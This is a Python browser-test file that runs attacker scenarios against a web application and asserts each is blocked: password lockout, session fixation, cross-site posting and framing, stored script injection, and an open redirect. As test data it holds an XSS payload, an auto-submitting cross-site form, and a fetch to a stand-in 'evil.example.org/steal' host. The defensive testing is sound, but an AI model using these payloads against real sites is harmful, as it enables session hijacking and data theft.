"""An attacker's day, in a real browser: each thing that is tried, and what came of it."""

import sqlite3
from contextlib import closing

import pytest

from web.looking import look_at
from web.people import PASSWORD
from web.signing_in import give_code, give_password, sign_in

EVIL = "http://evil.example.org"
PAYLOAD = "<img src=x onerror=window.hit=1><script>window.hit=1</script>"
# Anonymous, and known to the attacker, who has put it into the browser of somebody else.
PLANTED = "a" * 32


@pytest.fixture
def database(served):
    """The rows as somebody sees them who has broken nothing: what an attacker may know, and what somebody typed."""

    def ask(words, *values):
        with closing(sqlite3.connect(served.folder / "caseness.sqlite3", timeout=20)) as connection, connection:
            return connection.execute(words, values).fetchall()

    return ask


def text_of(tab):
    return tab.get_by_role("main").inner_text()


def serve_evil(tab, body):
    """A page of another site, to which somebody was lured while signed in."""
    answer = {"content_type": "text/html", "body": f"<!doctype html><title>Win</title>{body}"}
    tab.context.route(f"{EVIL}/**", lambda route: route.fulfill(**answer))
    tab.goto(f"{EVIL}/")


def test_a_password_cannot_be_guessed(tab, database):
    [(email,)] = database("SELECT email FROM accounts_user WHERE email LIKE 'person%' ORDER BY id LIMIT 1")
    for number in range(5):
        give_password(tab, email, f"a guess, number {number}")
        assert "The email address or the password is not right." in text_of(tab)
    give_password(tab, email, PASSWORD)
    assert "Too many sign-ins failed. Wait a quarter of an hour" in text_of(tab)
    look_at(tab, "locked-out")


def test_a_session_that_was_planted_is_worth_nothing(tab, served, browser):
    tab.goto("/health")
    tab.context.add_cookies([{"name": "caseness_session", "value": PLANTED, "url": served.address}])
    for label, value in (("Email address", "lead@example.org"), ("Password", PASSWORD)):
        tab.goto("/start") if label == "Email address" else None
        tab.get_by_label(label).fill(value)
    tab.get_by_role("button", name="Sign in", exact=True).click()
    give_code(tab)
    mine = {one["name"]: one["value"] for one in tab.context.cookies()}
    assert mine["caseness_session"] != PLANTED
    theirs = browser.new_context(base_url=served.address)
    theirs.add_cookies([{"name": "caseness_session", "value": PLANTED, "url": served.address}])
    assert "/accounts/login/" in theirs.request.get("/").url
    theirs.close()


def test_another_site_can_neither_post_nor_frame(tab, served, database):
    sign_in(tab, "administrator@example.org")
    post = f"<form method=post action={served.address}/teams/add><input name=name value=Evil><input name=code value=E></form>"
    serve_evil(tab, f"{post}<script>document.forms[0].submit()</script>")
    tab.wait_for_url(f"{served.address}/**")
    assert database("SELECT count(*) FROM services_team WHERE name = 'Evil'") == [(0,)]
    # From within, without the token, with all cookies.
    answer = tab.context.request.post("/teams/add", form={"name": "Evil", "code": "E"})
    assert answer.status == 403
    serve_evil(tab, f"<iframe src={served.address}/people></iframe>")
    tab.wait_for_timeout(500)
    assert "Everybody of" not in "".join(frame.content() for frame in tab.frames)


def test_a_key_of_another_service_leads_nowhere(tab, database):
    sign_in(tab, "administrator@example.org")
    [(person, team)] = database(
        "SELECT u.key, t.key FROM accounts_user u JOIN services_membership m ON m.user_id = u.id "
        "JOIN services_team t ON t.id = m.team_id JOIN services_service s ON s.id = m.service_id "
        "WHERE s.name = 'Elsewhere' LIMIT 1"
    )
    for path in (f"/people/{person}", f"/teams/{team}"):
        assert tab.goto(path).status == 404
    look_at(tab, "not-found")


def test_what_somebody_typed_never_runs(tab, database):
    dialogs = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    sign_in(tab, "administrator@example.org")
    tab.goto("/teams/add")
    tab.get_by_label("Name").fill(PAYLOAD)
    tab.get_by_label("Code").fill("<b>")
    tab.get_by_role("button", name="Save").click()
    database("UPDATE accounts_user SET name = ? WHERE email = 'analyst@example.org'", PAYLOAD)
    database("UPDATE caseload_client SET given_name = ? WHERE id IN (SELECT max(id) FROM caseload_client)", PAYLOAD)
    for path in ("/people", "/events", "/people/invite"):
        tab.goto(path)
        assert PAYLOAD in tab.content().replace("&lt;", "<").replace("&gt;", ">")
        assert tab.evaluate("window.hit") is None
    assert not dialogs


def test_what_got_into_a_page_all_the_same_is_stopped_by_its_policy(tab):
    sign_in(tab, "administrator@example.org")
    tab.goto("/people")
    stopped = tab.evaluate(
        """async (payload) => {
            const told = [];
            document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
            document.body.insertAdjacentHTML("beforeend", payload);
            document.body.append(Object.assign(document.createElement("script"), { textContent: "window.hit = 1" }));
            await fetch("https://evil.example.org/steal").catch(() => 0);
            await new Promise((done) => setTimeout(done, 500));
            return told;
        }""",
        PAYLOAD,
    )
    assert {"script-src-attr", "script-src-elem", "connect-src"} <= set(stopped)
    assert tab.evaluate("window.hit") is None


def test_signing_in_leads_to_no_other_site(tab, served):
    tab.goto(f"/accounts/login/?next={EVIL}/")
    tab.get_by_label("Email address").fill("supervisor@example.org")
    tab.get_by_label("Password").fill(PASSWORD)
    tab.get_by_role("button", name="Sign in", exact=True).click()
    give_code(tab)
    assert tab.url.startswith(served.address)
